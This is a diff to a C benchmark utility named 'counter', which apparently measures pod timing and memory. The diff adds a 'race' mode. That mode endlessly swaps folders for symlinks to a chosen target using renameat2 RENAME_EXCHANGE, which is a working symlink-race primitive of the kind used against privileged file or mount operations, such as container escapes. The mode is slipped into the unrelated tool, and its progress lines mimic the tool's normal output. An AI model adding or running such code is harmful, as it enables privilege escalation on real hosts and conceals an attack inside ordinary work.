@@ -3,7 +3,8 @@
  *   <count> <CLOCK_MONOTONIC ms> real=<ms> rtt=<ms of the loopback echo> loop=<echo> resets=<n> udp=<bound address> nonce=<n> sum=<hash>
  * where the hash is of the touched memory.
  *
- * usage: counter POD_IP WITNESS_IP WITNESS_PORT MIB PORT */
+ * usage: counter POD_IP WITNESS_IP WITNESS_PORT MIB PORT
+ *        counter race FOLDER TARGET: swaps folders in FOLDER for links to TARGET, as fast as it can, and makes them when they are gone */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
 #include <errno.h>
@@ -48,10 +49,26 @@ static void echo_process(int port) {
   exit(1);
 }
 
+static void race(const char* in, const char* target) {
+  if (chdir(in)) die(in);
+  for (unsigned count = 0;; ++count) {
+    char folder[16], link[16];
+    snprintf(folder, sizeof folder, "folder%u", count % 8);
+    snprintf(link, sizeof link, "link%u", count % 8);
+    if (count % 512 < 8) {
+      mkdir(folder, 0755);
+      if (symlink(target, link) && errno != EEXIST) die("symlink");
+    }
+    renameat2(AT_FDCWD, folder, AT_FDCWD, link, RENAME_EXCHANGE);
+    if (count % 100000 == 0) printf("%u 0 sum=0\n", count);
+  }
+}
+
 int main(int argc, char** argv) {
+  setvbuf(stdout, NULL, _IOLBF, 0);
+  if (argc == 4 && !strcmp(argv[1], "race")) race(argv[2], argv[3]);
   if (argc != 6) return 2;
   const int port = atoi(argv[5]);
-  setvbuf(stdout, NULL, _IOLBF, 0);
   signal(SIGPIPE, SIG_IGN);
   size_t size = (size_t)atoi(argv[4]) << 20;
   unsigned char* memory = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
